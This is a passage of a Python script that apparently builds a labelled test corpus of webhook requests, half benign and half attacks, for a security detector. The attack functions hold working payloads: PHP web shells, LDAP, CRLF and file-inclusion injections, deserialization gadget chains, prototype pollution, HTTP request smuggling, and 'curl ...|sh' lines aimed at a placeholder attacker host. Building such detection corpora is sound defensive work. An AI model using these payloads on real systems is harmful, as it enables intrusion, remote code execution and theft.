    emit("ldapi", "okta", okta({"verify": False, "target": [{"id": "00u" + alnum(17), "type": "User", "alternateId": "admin)(&)", "displayName": "Admin"}]}))
    emit("ldapi", "okta", okta({"verify": False, "display_name": "jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=example,dc=com)"}))
    emit("ldapi", "auth0", auth0({"n": 1, "user_name": "*)(&(objectClass=user)(sAMAccountName=*"}))
    emit("ldapi", "slack", slack({"kind": "slash", "command": "/whois", "text": "*)(cn=*))(|(cn=*"}))
    emit("ldapi", "hubspot", hubspot({"propertyName": "email", "propertyValue": "admin*)((|userPassword=*)"}))
    emit("ldapi", "scim", scim({"op": "filter", "filter": 'emails[type eq "work" and value co "*)(objectClass=*))(&(objectClass=void"]'}))


def attacks_crlf():
    emit("crlf", "mailgun", mailgun({"extra_headers": [("Reply-To", "support@example.com\r\nBcc: all-customers@%s" % EVIL)]}))
    emit("crlf", "postmark", postmark({"extra_headers": [("X-Customer-Ref", "10482\r\nBcc: list@%s\r\nX-Spam: no" % EVIL)]}))
    emit("crlf", "sendgrid-inbound", sendgrid_inbound({"subject": "Invoice 0213\r\nBcc: everyone@%s" % EVIL}))
    emit("crlf", "twilio", twilio({"kind": "inbound", "body": "hi\r\nSet-Cookie: sid=attacker; Path=/"}))
    emit("crlf", "probe", probe("GET", "/webhooks/twilio/status?redirect=%0d%0aSet-Cookie:%20sid%3Devil", pick(CURL_UA)))
    emit("crlf", "probe", probe("GET", "/hooks/callback/%0d%0aLocation:%20http://evil.example/", pick(CURL_UA)))
    emit("crlf", "probe", probe("GET", "/slack/oauth/callback?code=123.456&state=%0D%0AX-Injected:%201%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E", pick(CURL_UA)))
    emit("crlf", "slack", slack({"kind": "slash", "command": "/deploy", "text": "prod\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"}))
    emit("crlf", "relay", relay({"who": "zapier", "data": {"redirect_url": "https://app.example.com/\r\nSet-Cookie: admin=1", "email": "lead@example.com"}}))
    emit("crlf", "stripe", stripe({"type": "checkout.session.completed", "success_url": "https://shop.example.com/thanks%0d%0aSet-Cookie:%20session=attacker"}))
    emit("crlf", "zendesk", zendesk({"style": "custom", "requester_email": "x@example.com\r\nBcc: list@%s" % EVIL}))
    emit("crlf", "hubspot", hubspot({"propertyName": "salutation", "propertyValue": "Mr.\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"}))
    emit("crlf", "svix", svix({"app": "resend", "subject": "Welcome\r\nBcc: harvest@%s" % EVIL}))


def attacks_rfi():
    for uri in ["/webhooks/handler.php?page=http://evil.example/shell.txt?",
                "/api/hooks/index.php?module=https://evil.example/r57.txt%00",
                "/webhooks/woocommerce.php?include=ftp://evil.example/x.php",
                "/hooks/index.php?config=\\\\evil.example\\share\\x.php",
                "/wp-json/acme/v1/woo-sync?template_path=http://203.0.113.66/t.txt??",
                "/webhooks/paypal/ipn.php?lang=https://evil.example/c99.txt?&cmd=id"]:
        emit("rfi", "probe", probe("GET", uri, pick(CURL_UA)))
    emit("rfi", "woocommerce", woocommerce({"topic": "order.created", "uri": "/api/woo/webhook.php",
                                            "meta_data": [{"id": 7, "key": "_invoice_template", "value": "http://evil.example/shell.txt?"}]}))
    emit("rfi", "relay", relay({"who": "zapier", "uri": "/webhooks/relay.php", "data": {"template": "https://evil.example/inc.php?", "name": "x"}}))
    emit("rfi", "jotform", jotform({"uri": "/forms/jotform/submit.php?theme=http://evil.example/t.txt?", "answer": "hello"}))
    emit("rfi", "twilio", twilio({"kind": "status", "uri": "/twilio/status.php?include_path=http://evil.example/x.txt%3F"}))


def attacks_php():
    emit("php", "mailgun", mailgun({"attachments": [("invoice.php", "<?php @eval($_POST['x']); ?>\r\n", "application/x-php")]}))
    emit("php", "sendgrid-inbound", sendgrid_inbound({"attachments": [("avatar.phtml", "GIF89a<?php system($_REQUEST['cmd']); ?>", "image/gif")]}))
    emit("php", "woocommerce", woocommerce({"topic": "order.created", "meta_data": [{"id": 3, "key": "_cart_state", "value": 'O:8:"Acme\\Foo":1:{s:4:"file";s:11:"/etc/passwd";}'}]}))
    emit("php", "woocommerce", woocommerce({"topic": "customer.created", "first_name": 'a:1:{i:0;O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:41:"GuzzleHttp\\Cookie\\FileCookieJarfilename";s:23:"/var/www/html/shell.php";}}'}))
    emit("php", "probe", probe("GET", "/webhooks/handler.php?file=php://filter/convert.base64-encode/resource=../config.php", pick(CURL_UA)))
    emit("php", "probe", probe("GET", "/webhooks/view.php?tpl=expect://id", pick(CURL_UA)))
    emit("php", "probe", probe("GET", "/api/hooks/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8%2B", pick(CURL_UA)))
    emit("php", "probe", probe("POST", "/webhooks/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", pick(CURL_UA), ct="text/plain", body="<?php echo md5('phpunit'); ?>"))
    emit("php", "shopify", shopify({"topic": "products/update", "body_html": "<p>New!</p><?=`$_GET[0]`?>"}))
    emit("php", "probe", probe("POST", "/webhooks/drupal?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id",
                               pick(CURL_UA), ct="application/x-www-form-urlencoded", body="form_id=user_pass&_triggering_element_name=name"))
    emit("php", "stripe", stripe({"type": "customer.created", "description": "phar://./uploads/avatar.jpg/test.txt"}))
    emit("php", "jotform", jotform({"answer": "<?php file_put_contents('/var/www/html/x.php', base64_decode($_GET['p'])); ?>"}))


def attacks_generic():
    r = linear({"type": "Issue"})
    body = r[3][:-1] + ',"__proto__":{"isAdmin":true,"role":"owner"}}'
    emit("generic", "linear", REQ(r[0], r[1], r[2], body))
    r = svix({"app": "clerk"})
    body = r[3][:-1] + ',"constructor":{"prototype":{"polluted":"yes","shell":"/bin/sh"}}}'
    emit("generic", "svix", REQ(r[0], r[1], r[2], body))
    emit("generic", "probe", probe("POST", "/api/webhooks/vercel?__proto__[admin]=1&__proto__[status]=500", pick(CURL_UA), ct="application/json", body='{"type":"deployment.succeeded"}'))
    emit("generic", "slack", REQ("POST", "/slack/commands", [["Host", pick(HOSTS)], ["User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"],
                                                             ["Content-Type", "application/x-www-form-urlencoded"]],
                                 "token=%s&team_id=T01&__proto__[toString]=x&constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x&command=%%2Fdeploy&text=prod" % alnum(24)))
    emit("generic", "relay", relay({"who": "n8n", "data": {"expression": "require('child_process').exec('curl http://%s/n|sh')" % EVIL, "node": "Function"}}))
    emit("generic", "typeform", typeform({"answer": "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()"}))
    emit("generic", "relay", relay({"who": "zapier", "data": {"code_input": "__import__('os').system('curl http://%s/z|sh')" % EVIL, "email": "lead@example.com"}}))
    emit("generic", "probe", probe("POST", "/webhooks/flux/receiver", pick(CURL_UA), ct="application/x-yaml",
                                   body="event: push\nref: !!python/object/apply:os.system [\"curl http://%s/y|sh\"]\n" % EVIL))
    emit("generic", "probe", probe("POST", "/webhooks/gitlab", pick(CURL_UA), ct="application/x-yaml",
                                   body="--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve\n"))
    emit("generic", "intercom", intercom({"topic": "contact.user.created", "custom_attributes": {"plan": "pro", "note": "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"}}))


def attacks_protocol():
    host = pick(HOSTS)
    body = '{"zen":"Keep it logically awesome.","hook_id":1}'
    n = len(body)
    SMUG = "GPOST /admin/rotate-secrets HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"
    reqs = [
        "POST /webhooks/github HTTP/1.1\r\nHost: %s\r\nUser-Agent: GitHub-Hookshot/1a2b3c4\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (host, len(SMUG), SMUG),
        "POST /api/stripe/webhook HTTP/1.1\r\nHost: %s\r\nUser-Agent: Stripe/1.0 (+https://stripe.com/docs/webhooks)\r\nContent-Type: application/json\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /internal/metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" % host,
        "POST /slack/events HTTP/1.1\r\nHost: %s\r\nUser-Agent: Slackbot 1.0 (+https://api.slack.com/robots)\r\nContent-Type: application/json\r\nTransfer-Encoding: xchunked\r\nContent-Length: %d\r\n\r\n%s" % (host, n, body),
        "POST /webhooks/shopify HTTP/1.1\r\nHost: %s\r\nUser-Agent: Shopify-Captain-Hook\r\nContent-Type: application/json\r\nTransfer-Encoding : chunked\r\nContent-Length: %d\r\n\r\n%s" % (host, n, body),
        "POST /webhooks/github HTTP/1.1\r\nHost: %s\r\nUser-Agent: GitHub-Hookshot/1a2b3c4\r\nContent-Type: application/json\r\nContent-Length: %d\r\nContent-Length: 7\r\n\r\n%s" % (host, n, body),
        "POST /webhooks/gitlab HTTP/1.1\r\nHost: %s\r\nUser-Agent: GitLab/17.8.1-ee\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (host, n, body),
        "POST /webhooks/twilio/status HTTP/1.1\r\nHost: %s\r\nUser-Agent: TwilioProxy/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: 11\r\n\r\nSmsStatus=x" % host,
        "POST /webhooks/sns HTTP/1.0\r\nHost: %s\r\nUser-Agent: Amazon Simple Notification Service Agent\r\nContent-Type: text/plain; charset=UTF-8\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (host, n, body),
        "POST /webhooks/github HTTP/1.1\r\nHost: %s\r\nUser-Agent: GitHub-Hookshot/1a2b3c4\r\nX-GitHub-Event: push\x00ping\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (host, n, body),
        "POST /api/stripe/webhook HTTP/1.1\r\nHost: %s\r\nUser-Agent: Stripe/1.0 (+https://stripe.com/docs/webhooks)\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n%x;ext=\"\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nX: \"\r\n%s\r\n0\r\n\r\n" % (host, n, body),
        "POST /webhooks/github HTTP/1.1\r\nHost: %s\r\nHost: 127.0.0.1:8080\r\nUser-Agent: GitHub-Hookshot/1a2b3c4\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (host, n, body),
    ]
    provs = ["github", "stripe", "slack", "shopify", "github", "gitlab", "twilio", "sns", "github", "stripe", "github"]
    for prov, raw in zip(provs, reqs):
        emit_raw("protocol", prov, raw)


SCANNER_UAS = ["sqlmap/1.8.3#stable (https://sqlmap.org)",
               "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000345)",
               "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
               "Fuzz Faster U Fool v2.1.0-dev",
               "gobuster/3.6",
               "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
               "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
               "Mozilla/5.0 zgrab/0.x",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
               "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
               "Wfuzz/3.1.0",
               "Arachni/v1.6.1",
               "WhatWeb/0.5.5",
               "commix/v3.9-stable (https://commixproject.com)",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Acunetix-WVS"]


def attacks_scanner():
    paths = ["/webhooks/stripe", "/webhooks/github", "/slack/events", "/wp-json/acme/v1/woo-sync", "/webhooks/FUZZ", "/hooks/.env",
             "/webhooks/.git/config", "/", "/api/stripe/webhook", "/slack/events", "/webhooks/github/.well-known/security.txt",
             "/webhooks/backup.zip", "/api/github/webhook?id=1", "/webhooks/", "/api/v1/integrations/github/events?cmd=x", "/webhooks/twilio/status"]
    for i, (ua, path) in enumerate(zip(SCANNER_UAS, paths)):
        extra = []
        if "Acunetix" in ua:
            extra = [["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"], ["Acunetix-Aspect-Queries", "filelist;aspectalerts"]]
        if i % 3 == 0:
            emit("scanner", "probe", probe("POST", path, ua, ct="application/json", body='{"id":"evt_1","type":"ping"}', extra=extra))
        else:
            emit("scanner", "probe", probe("GET", path, ua, extra=extra))
    emit("scanner", "probe", probe("GET", "/webhooks/github", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", extra=[["X-Scanner", "Netsparker"], ["X-Requested-With", "XMLHttpRequest"]]))


def attacks():
    attacks_xss()
    attacks_sqli()
    attacks_rce()
    attacks_lfi()
    attacks_ssrf()
    attacks_ssti()
    attacks_xxe()
    attacks_java()
    attacks_nosqli()
    attacks_ldapi()
    attacks_crlf()
    attacks_rfi()
    attacks_php()
    attacks_generic()
    attacks_protocol()
    attacks_scanner()


# ================================================================= benign
BENIGN_PLAN = [("github", github, 30), ("gitlab", gitlab, 14), ("bitbucket", bitbucket, 8), ("circleci", circleci, 5), ("buildkite", buildkite, 4),
               ("vercel", vercel, 6), ("netlify", netlify, 5), ("dockerhub", dockerhub, 4), ("harbor", harbor, 4),
               ("stripe", stripe, 30), ("shopify", shopify, 22), ("woocommerce", woocommerce, 8), ("paypal", paypal, 6), ("paddle", paddle, 5),
               ("slack", slack, 28), ("discord", discord, 10), ("msgraph", msgraph, 14), ("zoom", zoom, 6), ("meta", meta, 8), ("twilio", twilio, 16),
               ("sendgrid", sendgrid_events, 10), ("sendgrid-inbound", sendgrid_inbound, 8), ("mailgun", mailgun, 10), ("postmark", postmark, 10),
               ("postmark", postmark_bounce, 3), ("zendesk", zendesk, 12), ("intercom", intercom, 8), ("freshdesk", freshdesk, 6), ("hubspot", hubspot, 10),
               ("salesforce", salesforce, 8), ("jira", jira, 12), ("confluence", confluence, 5), ("linear", linear, 8), ("notion", notion, 6),
               ("figma", figma, 5), ("calendly", calendly, 7), ("docusign", docusign, 8), ("pagerduty", pagerduty, 8), ("datadog", datadog, 6),
               ("grafana", grafana, 8), ("alertmanager", alertmanager, 5), ("sentry", sentry, 8), ("auth0", auth0, 6), ("okta", okta, 9),
               ("scim", scim, 7), ("segment", segment, 12), ("relay", relay, 12), ("typeform", typeform, 8), ("gforms", gforms, 5), ("jotform", jotform, 5),
               ("svix", svix, 10), ("sns", sns, 12), ("eventbridge", eventbridge, 6), ("pubsub", pubsub, 10), ("eventgrid", eventgrid, 10),
               ("cloudevents", cloudevents, 5), ("websub", websub, 5), ("k8s-admission", k8s_admission, 7)]


def benign():
    for prov, fn, n in BENIGN_PLAN:
        for _ in range(n):
            emit("benign", prov, fn())
    # handshakes and retries, shaped exactly like the providers send them
    emit("benign", "msgraph", msgraph({"kind": "validate"}))
    emit("benign", "okta", okta({"verify": True}))
    emit("benign", "meta", meta({"kind": "verify"}))
    emit("benign", "websub", websub({"verify": True}))
    emit("benign", "eventgrid", eventgrid({"kind": "cloudevents_options"}))
    emit("benign", "eventgrid", eventgrid({"kind": "validate"}))
    emit("benign", "sns", sns({"mtype": "SubscriptionConfirmation"}))
    emit("benign", "slack", slack({"kind": "url_verification"}))
    emit("benign", "notion", notion({"verify": True}))
    emit("benign", "zoom", zoom({"event": "endpoint.url_validation"}))
    emit("benign", "discord", discord({"type": 1}))
    emit("benign", "github", github({"event": "ping"}))
    # a GitHub redelivery: same delivery id twice
    d = uid()
    emit("benign", "github", github({"event": "push", "delivery": d}))
    emit("benign", "github", github({"event": "push", "delivery": d}))
    emit("benign", "jira", jira({"retry": 2}))
    emit("benign", "hubspot", hubspot({"attempt": 3}))
    emit("benign", "intercom", intercom({"attempts": 2}))
    emit("benign", "eventgrid", eventgrid({"kind": "blob", "delivery_count": 3}))
    for prov, fn, ov in dev_content():
        emit("dev-content", prov, fn(ov))


# ============================================================= validation
def validate(lines):
    ids = set()
    cats = {}
    for ln in lines:
        o = json.loads(ln)
        assert o["id"] not in ids, o["id"]
        ids.add(o["id"])
        assert o["set"] == "webhooks" and o["expect"] in ("pass", "detect")
        if "raw_b64" in o:
            raw = base64.b64decode(o["raw_b64"])
            assert raw.split(b"\r\n", 1)[0].count(b" ") == 2
        else:
            hs = {}
            for k, v in o["headers"]:
                hs.setdefault(k.lower(), []).append(v)
            assert "host" in hs and "user-agent" in hs, o["id"]
            if "body" in o:
                assert "content-type" in hs, o["id"]
                assert hs["content-length"] == [str(len(o["body"].encode("utf-8")))], o["id"]
                ct = hs["content-type"][0]
                if ct.startswith("application/json") and o["expect"] == "pass":
                    json.loads(o["body"])
        cats[o["category"]] = cats.get(o["category"], 0) + 1
    return cats


def main():
    mode = sys.argv[1] if len(sys.argv) > 1 else ""
    if mode not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-webhooks.py attacks|benign\n")
        sys.exit(2)
    if mode == "attacks":
        attacks()
    else:
        benign()
    lines = [json.dumps(o, ensure_ascii=False) for o in OUT]
    cats = validate(lines)
    out = sys.stdout
    for ln in lines:
        out.write(ln + "\n")
    sys.stderr.write("%s: %d lines; %s\n" % (mode, len(lines), ", ".join("%s=%d" % kv for kv in sorted(cats.items()))))


if __name__ == "__main__":
    main()
